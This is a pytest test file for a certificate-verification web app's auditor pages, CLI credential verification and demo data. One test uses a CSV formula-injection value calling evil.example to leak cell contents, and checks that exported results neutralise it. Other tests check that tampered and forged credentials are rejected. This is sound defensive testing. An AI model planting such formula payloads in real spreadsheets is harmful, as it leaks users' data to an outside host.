"""Auditor pages (check codes, register, audit log), the CLI (export, credentials verify, keys), the demo."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pytest

from academy.certificates import codes, credentials, keys, register, service
from academy.extensions import db
from tests.certificates_fixtures import course, issue, signing_key  # noqa: F401 (fixtures)

T0 = datetime(2025, 2, 3, 4, 5, 6, tzinfo=UTC)


# --- who may see the auditor pages ---


@pytest.mark.parametrize(
    ("role", "status"),
    [("trainee", 403), ("trainer", 403), ("coordinator", 403), ("auditor", 200), ("admin", 200)],
)
@pytest.mark.parametrize("url", ["/audit", "/audit/register", "/audit/log", "/audit/register.csv"])
def test_auditor_pages_are_for_auditors_and_admins(client, login, role, status, url):
    login(role)
    assert client.get(url).status_code == status


def test_auditor_pages_need_sign_in(client):
    response = client.get("/audit")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- checking many codes ---


def test_paste_codes_and_see_one_result_each(client, login, issue, make_user):
    valid = issue(make_user("trainee", name="Ada Lovelace"))
    revoked = issue(make_user("trainee"))
    service.revoke_certificate(revoked, make_user("admin"), "x")
    db.session.commit()
    login("auditor")
    unknown = codes.new_code()
    pasted = f"{valid.code.lower()}\n\n{unknown}\n{codes.group(revoked.code)}\n"
    page = client.post("/audit", data={"codes": pasted}).get_data(as_text=True)
    rows = page.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]
    assert len(rows) == 3
    assert "Valid" in rows[0] and "A. L." in rows[0] and "Ada" not in page
    assert "Not found" in rows[1] and unknown in rows[1]
    assert "Revoked" in rows[2]


def test_upload_a_csv_of_codes_and_download_the_results(client, login, issue, make_user):
    certs = [issue(make_user("trainee")) for _ in range(2)]
    login("auditor")
    upload = "name,code\nfirst," + codes.group(certs[0].code) + "\nsecond," + certs[1].code + "\nthird,nope\n"
    page = client.post(
        "/audit",
        data={"codes": "", "upload": (io.BytesIO(upload.encode()), "codes.csv")},
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert page.count("badge-ok") == 2 and "nope" in page
    assert "first" in page and page.count("Does not match") == 3  # the "name" column is checked too
    hidden = html.unescape(re.search(r'name="download-codes" type="hidden" value="([^"]*)"', page).group(1))
    response = client.post("/audit/results.csv", data={"download-codes": hidden})
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(r["input"], r["status"], r["name_given"], r["name_matches"]) for r in rows] == [
        (codes.group(certs[0].code), "valid", "first", "no"),
        (certs[1].code, "valid", "second", "no"),
        ("nope", "not_found", "third", "no"),
    ]


@pytest.mark.parametrize(("ending", "encoding", "bom"), [
    ("\r", "utf-8", b""),  # Excel for Mac
    ("\r\n", "utf-16-le", b"\xff\xfe"),  # "Unicode text"
    ("\n", "cp1252", b""),
    ("\r\n", "utf-8", b"\xef\xbb\xbf"),
])
def test_a_csv_of_codes_from_any_spreadsheet_is_checked(client, login, issue, make_user, ending, encoding, bom):
    certs = [issue(make_user("trainee")) for _ in range(2)]
    login("auditor")
    text = ending.join(["name,code", "Zoë," + codes.group(certs[0].code), "André," + certs[1].code, ""])
    data = bom + text.encode(encoding)
    response = client.post("/audit", data={"codes": "", "upload": (io.BytesIO(data), "codes.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert page.count("badge-ok") == 2 and "Zoë" in page and "André" in page


@pytest.mark.parametrize("data", [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"code\n" + b"A" * 200_000 + b"\n"])
def test_a_file_that_is_not_a_csv_of_codes_is_refused_with_a_message(client, login, data):
    login("auditor")
    response = client.post("/audit", data={"codes": "", "upload": (io.BytesIO(data), "codes.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert "not a CSV or text file of codes" in response.get_data(as_text=True)


def test_pasted_codes_with_old_mac_line_endings_are_read(client, login, issue, make_user):
    cert = issue(make_user("trainee"))
    login("auditor")
    page = client.post("/audit", data={"codes": "code\r" + cert.code + "\rnope\r"}).get_data(as_text=True)
    assert page.count("badge-ok") == 1 and "nope" in page


def test_a_formula_typed_as_a_code_comes_back_as_text_in_the_results_csv(client, login):
    login("auditor")
    typed = '=HYPERLINK("http://evil.example/?"&A1)'
    response = client.post("/audit/results.csv", data={"download-codes": typed + "\n@SUM(1+1)\n-2+3"})
    cells = [row[0] for row in csv.reader(io.StringIO(response.get_data(as_text=True)))][1:]
    assert cells == ["'" + typed, "'@SUM(1+1)", "'-2+3"]  # a spreadsheet shows them, never runs them


def test_more_than_1000_codes_is_refused_with_a_message(client, login):
    login("auditor")
    response = client.post("/audit", data={"codes": "\n".join(codes.new_code() for _ in range(1001))})
    assert response.status_code == 413
    assert "check at most 1,000 at a time" in response.get_data(as_text=True)


def test_a_file_over_1_mb_is_refused_with_a_message(client, login):
    login("auditor")
    big = io.BytesIO(b"A" * (1024 * 1024 + 10))
    response = client.post("/audit", data={"upload": (big, "big.csv")}, content_type="multipart/form-data")
    assert response.status_code == 413
    assert "larger than 1 MB" in response.get_data(as_text=True)


def test_a_file_over_the_request_limit_gets_the_same_message(client, login):
    login("auditor")
    huge = io.BytesIO(b"A" * (3 * 1024 * 1024))
    response = client.post("/audit", data={"upload": (huge, "huge.csv")}, content_type="multipart/form-data")
    assert response.status_code == 413 and "larger than 1 MB" in response.get_data(as_text=True)


def test_nothing_to_check(client, login):
    login("auditor")
    response = client.post("/audit", data={"codes": "  \n"})
    assert response.status_code == 400 and "Paste at least one code" in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("code\nAAAA\n", ["AAAA"]),
        ("", []),
        ("7KQ2-M9XD-4T1B-8HNC-V", ["7KQ2-M9XD-4T1B-8HNC-V"]),
    ],
)
def test_read_codes_keeps_what_cannot_be_a_code_when_nothing_can(text, found):
    assert register.read_codes(text) == found


def test_read_codes_takes_the_code_column_and_skips_the_header():
    good = [codes.new_code() for _ in range(3)]
    text = "Name;Code;Notes\nA;" + good[0] + ";x\nB;" + good[1].lower() + ";y\nC;;\nD;" + good[2] + ";z\n"
    assert register.read_codes(text) == [good[0], good[1].lower(), good[2]]


# --- register and audit log ---


def test_register_filters_by_status_course_and_community(client, login, issue, make_user, make_community):
    riverside, valley = make_community("riverside"), make_community("valley")
    a = issue(make_user("trainee", community=riverside), "basics")
    b = issue(make_user("trainee", community=valley), "policing", now=T0 - timedelta(days=900))
    c = issue(make_user("trainee", community=valley), "basics")
    service.revoke_certificate(c, make_user("admin"), "Private reason here")
    db.session.commit()
    login("auditor")

    def shown(**query) -> set[str]:
        page = client.get("/audit/register", query_string=query).get_data(as_text=True)
        return {name for name, cert in (("a", a), ("b", b), ("c", c)) if codes.group(cert.code) in page}

    assert shown() == {"a", "b", "c"}
    assert (
        shown(status="valid") == {"a"}
        and shown(status="expired") == {"b"}
        and shown(status="revoked") == {"c"}
    )
    assert shown(course="policing") == {"b"}
    assert shown(community=valley.id) == {"b", "c"}
    assert shown(community=valley.id, course="basics") == {"c"}


def test_register_paginates(client, login, issue, make_user):
    user = make_user("trainee")
    for i in range(55):
        issue(user, now=T0 + timedelta(minutes=i), validity_months=None)
    login("auditor")
    first = client.get("/audit/register").get_data(as_text=True)
    second = client.get("/audit/register?page=2").get_data(as_text=True)
    assert "Page 1 of 2" in first and "Page 2 of 2" in second
    assert first.count('class="code"') == 50 and second.count('class="code"') == 5


def test_audit_log_lists_events_read_only(client, login, issue):
    cert = issue()
    client.get(f"/verify/{cert.code}")
    login("auditor")
    page = client.get("/audit/log").get_data(as_text=True)
    assert "certificate.issued" in page and "certificate.verified" in page and codes.group(cert.code) in page
    only = client.get("/audit/log?action=certificate.verified").get_data(as_text=True)
    assert "<td>certificate.issued</td>" not in only
    assert client.post("/audit/log").status_code == 405


def _logged(action: str, at: datetime) -> None:
    from academy.certificates.models import AuditEvent

    db.session.add(AuditEvent(action=action, subject_type="test", subject_id=action, at=at, detail={}))
    db.session.commit()


def test_audit_log_days_are_the_auditors_community_days_with_the_zone_named(client, login, make_community):
    valley = make_community("fraser-valley", "Fraser Valley")
    valley.timezone = "America/Vancouver"
    db.session.commit()
    _logged("test.late-on-the-2nd", datetime(2025, 2, 3, 7, 30, tzinfo=UTC))  # 23:30 on 2 February in Vancouver
    _logged("test.early-on-the-3rd", datetime(2025, 2, 3, 9, 0, tzinfo=UTC))  # 01:00 on 3 February in Vancouver
    _logged("test.late-on-the-3rd", datetime(2025, 2, 4, 7, 59, tzinfo=UTC))  # 23:59 on 3 February in Vancouver
    login("auditor", community=valley, sector=None, subrole=None)
    page = client.get("/audit/log?since=2025-02-03&until=2025-02-03").get_data(as_text=True)
    rows = page.split("<tbody>")[1]
    assert "<td>test.early-on-the-3rd</td>" in rows and "<td>test.late-on-the-3rd</td>" in rows
    assert "test.late-on-the-2nd" not in rows
    assert "From (" in page and "America/Vancouver)" in page and "UTC" not in page.split("<tbody>")[0]
    assert "2025-02-03 01:00" in page and "2025-02-03 23:59" in page  # shown in the same zone
    assert 'value="2025-02-03"' in page  # the days typed stay as typed


def test_audit_log_of_an_auditor_without_a_community_is_in_utc(client, login):
    _logged("test.late-on-the-2nd", datetime(2025, 2, 3, 7, 30, tzinfo=UTC))
    login("auditor")
    page = client.get("/audit/log?since=2025-02-03&until=2025-02-03").get_data(as_text=True)
    assert "<td>test.late-on-the-2nd</td>" in page and "2025-02-03 07:30" in page and "From (UTC)" in page


def test_home_panel_for_auditors(client, login):
    login("auditor")
    page = client.get("/").get_data(as_text=True)
    assert 'id="cert-panel-h"' in page and "/audit/register" in page


# --- CLI ---


def test_cli_export_writes_the_register_as_csv(runner, issue, make_user, make_community):
    community = make_community("riverside")
    cert = issue(make_user("trainee", community=community, name="Secret Name"), "policing", now=T0)
    result = runner.invoke(args=["certificates", "export"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert list(rows[0]) == [
        "code",
        "status",
        "course_slug",
        "course_title",
        "sector",
        "subrole",
        "community",
        "version",
        "hours",
        "earned_via",
        "issued_at",
        "expires_at",
    ]
    assert rows == [
        {
            "code": codes.group(cert.code),
            "status": "valid",
            "course_slug": "policing",
            "course_title": "Test policing",
            "sector": "law-enforcement",
            "subrole": "police",
            "community": "riverside",
            "version": cert.version,
            "hours": f"{cert.hours:g}",
            "earned_via": "self-paced",
            "issued_at": "2025-02-03T04:05:06Z",
            "expires_at": "2027-02-03T04:05:06Z",
        }
    ]
    assert "Secret Name" not in result.output


@pytest.fixture
def credential_files(client, issue, signing_key, tmp_path):
    cert = issue()
    document = client.get(f"/api/v1/certificates/{cert.code}/credential").get_json()
    good = tmp_path / "credential.json"
    good.write_text(json.dumps(document))
    tampered = tmp_path / "tampered.json"
    tampered.write_text(json.dumps({**document, "name": "Something else"}))
    status = tmp_path / "status.json"
    status.write_text(client.get("/api/v1/status/1").get_data(as_text=True))
    return cert, good, tampered, status


def test_cli_credentials_verify_valid_and_tampered(runner, credential_files):
    _, good, tampered, status = credential_files
    ok = runner.invoke(args=["credentials", "verify", str(good), "--status-list", str(status)])
    assert ok.exit_code == 0, ok.output
    for line in (
        "ok   signature: eddsa-rdfc-2022 and eddsa-jcs-2022 verified, signed by did:key:",
        "ok   issuer:",
        "ok   dates:",
        "ok   status: not revoked",
        "VALID",
    ):
        assert line in ok.output
    bad = runner.invoke(args=["credentials", "verify", str(tampered), "--offline"])
    assert bad.exit_code == 1
    assert "FAIL signature" in bad.output and "INVALID" in bad.output


def test_cli_credentials_verify_sees_a_revocation(runner, client, credential_files, make_user):
    cert, good, _, status = credential_files
    service.revoke_certificate(cert, make_user("admin"), "x")
    db.session.commit()
    status.write_text(client.get("/api/v1/status/1").get_data(as_text=True))
    result = runner.invoke(args=["credentials", "verify", str(good), "--status-list", str(status)])
    assert result.exit_code == 1 and "FAIL status: revoked" in result.output


def test_cli_credentials_verify_reads_this_instances_status_list_from_its_database(runner, credential_files, make_user):
    cert, good, _, _ = credential_files
    result = runner.invoke(args=["credentials", "verify", str(good), "--offline"])
    assert result.exit_code == 0, result.output
    assert "ok   status: not revoked" in result.output and "read from this instance's database" in result.output
    service.revoke_certificate(cert, make_user("admin"), "x")
    db.session.commit()
    result = runner.invoke(args=["credentials", "verify", str(good), "--offline"])
    assert result.exit_code == 1 and "FAIL status: revoked" in result.output and "INVALID" in result.output


def test_cli_credentials_verify_refuses_a_credential_resigned_with_another_key(runner, credential_files, tmp_path):
    _, good, _, _ = credential_files
    document = json.loads(good.read_text())
    stranger = keys.generate_key()
    bare = {key: value for key, value in document.items() if key != "proof"}
    bare["issuer"] = {**bare["issuer"], "id": stranger.did}
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(credentials.sign_proof_set(
        bare, stranger.private_key, stranger.verification_method, "2025-01-01T00:00:00Z"
    )))
    result = runner.invoke(args=["credentials", "verify", str(forged), "--offline"])
    assert result.exit_code == 3, result.output
    assert f"ok   signature: eddsa-rdfc-2022 and eddsa-jcs-2022 verified, signed by {stranger.did}" in result.output
    assert f"FAIL issuer: {stranger.did} is not a trusted issuer" in result.output
    assert result.output.rstrip().endswith("signature valid, issuer not trusted")
    assert "VALID\n" not in result.output


def test_cli_credentials_verify_trusts_the_issuers_given(runner, credential_files, signing_key):
    _, good, _, _ = credential_files
    other = keys.generate_key().did
    untrusted = runner.invoke(args=["credentials", "verify", str(good), "--issuer", other])
    assert untrusted.exit_code == 3 and "signature valid, issuer not trusted" in untrusted.output
    ours = keys.load_keyring(signing_key).active.did
    trusted = runner.invoke(args=["credentials", "verify", str(good), "--issuer", other, "--issuer", ours])
    assert trusted.exit_code == 0 and trusted.output.rstrip().endswith("VALID"), trusted.output


def test_cli_credentials_verify_offline_without_the_status_list_says_status_unknown(app, runner, credential_files):
    _, good, _, _ = credential_files
    app.config["ACADEMY_PUBLIC_URL"] = "https://another-academy.test"  # the credential's list is not ours now
    result = runner.invoke(args=["credentials", "verify", str(good), "--offline"])
    assert result.exit_code == 4, result.output
    assert "??   status: status unknown: offline: https://academy.test/api/v1/status-lists/1 was not fetched" in (
        result.output
    )
    assert result.output.rstrip().endswith("status unknown")


def test_cli_credentials_verify_says_which_proofs_it_checked(runner, credential_files, tmp_path):
    _, good, _, status = credential_files
    document = json.loads(good.read_text())
    jcs_only = tmp_path / "jcs-only.json"
    jcs_only.write_text(json.dumps({**document, "proof": [document["proof"][1]]}))
    result = runner.invoke(args=["credentials", "verify", str(jcs_only), "--status-list", str(status)])
    assert result.exit_code == 0, result.output
    assert "signature: eddsa-jcs-2022 verified, signed by did:key:" in result.output
    assert "; no eddsa-rdfc-2022 proof" in result.output


def test_cli_keys_rotate_keeps_old_keys(runner, signing_key):
    result = runner.invoke(args=["keys", "rotate"])
    assert result.exit_code == 0 and "new signing key: did:key:z6Mk" in result.output
    assert "2 key(s)" in result.output
    listing = runner.invoke(args=["keys", "list"]).output
    assert [line.split()[2] for line in listing.splitlines()] == ["verify", "signing"]


# --- demo ---


def test_demo_leaves_every_status_and_is_idempotent(app):
    from academy import demo

    lines = demo.populate()
    again = demo.populate()
    printed = {line.split()[0]: line.split()[1] for line in lines if "/verify/" in line}
    assert set(printed) == {"valid", "expired", "revoked", "superseded"}
    assert [line for line in again if "/verify/" in line] == [line for line in lines if "/verify/" in line]
    for status, code in printed.items():
        assert service.find(code).status() == status


# --- names beside codes, searching, the log's actors and dates ---


def test_a_list_of_names_and_codes_says_which_names_match(client, login, issue, make_user):
    ada = issue(make_user("trainee", name="Ada Lovelace"))
    grace = issue(make_user("trainee", name="Grace Hopper"))
    login("auditor")
    pasted = f"ada lovelace, {codes.group(ada.code)}\nAda Lovelace, {codes.group(grace.code)}\n{grace.code}\n"
    page = client.post("/audit", data={"codes": pasted}).get_data(as_text=True)
    rows = page.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]
    assert "Matches the holder" in rows[0]  # case and spacing do not matter, as on the verify page
    assert "Does not match" in rows[1]
    assert "Matches" not in rows[2] and "Does not match" not in rows[2]  # no name given: nothing claimed
    assert "Grace" not in page  # the holder's name is never shown, only whether the given one matches


def test_an_auditors_check_is_logged_once_under_their_name(client, login, issue):
    cert = issue()
    auditor = login("auditor")
    page = client.post("/audit", data={"codes": cert.code}).get_data(as_text=True)
    hidden = html.unescape(re.search(r'name="download-codes" type="hidden" value="([^"]*)"', page).group(1))
    client.post("/audit/results.csv", data={"download-codes": hidden})
    log = client.get("/audit/log?action=certificate.verified").get_data(as_text=True)
    assert log.count("<td>certificate.verified</td>") == 1  # the download is not a second check
    assert auditor.name in log and "(Auditor)" in log


def test_the_register_finds_a_code_a_name_or_a_course(client, login, issue, make_user):
    ada = issue(make_user("trainee", name="Ada Lovelace"), "basics")
    bob = issue(make_user("trainee", name="Bob Ng"), "policing")
    login("auditor")

    def found(q: str) -> set[str]:
        page = client.get("/audit/register", query_string={"q": q}).get_data(as_text=True)
        return {name for name, cert in (("ada", ada), ("bob", bob)) if codes.group(cert.code) in page}

    assert found(ada.code.lower()) == {"ada"}
    assert found("lovel") == {"ada"}
    assert found("Test policing") == {"bob"}
    assert found("%") == set() and found("_") == set()  # wildcards are taken literally
    assert found("") == {"ada", "bob"}


def test_the_audit_log_filters_by_day(client, login, issue):
    old, new = issue(now=T0), issue(now=T0 + timedelta(days=10))
    login("auditor")

    def shown(**query) -> set[str]:
        page = client.get("/audit/log", query_string={"action": "certificate.issued", **query}).get_data(as_text=True)
        return {name for name, cert in (("old", old), ("new", new)) if codes.group(cert.code) in page}

    day = T0.date()
    assert shown(since=day.isoformat(), until=day.isoformat()) == {"old"}
    assert shown(since=(day + timedelta(days=1)).isoformat()) == {"new"}
    assert shown(until=(day + timedelta(days=9)).isoformat()) == {"old"}
    assert shown(since="not a date") == {"old", "new"}  # a bad date is ignored, not a 500
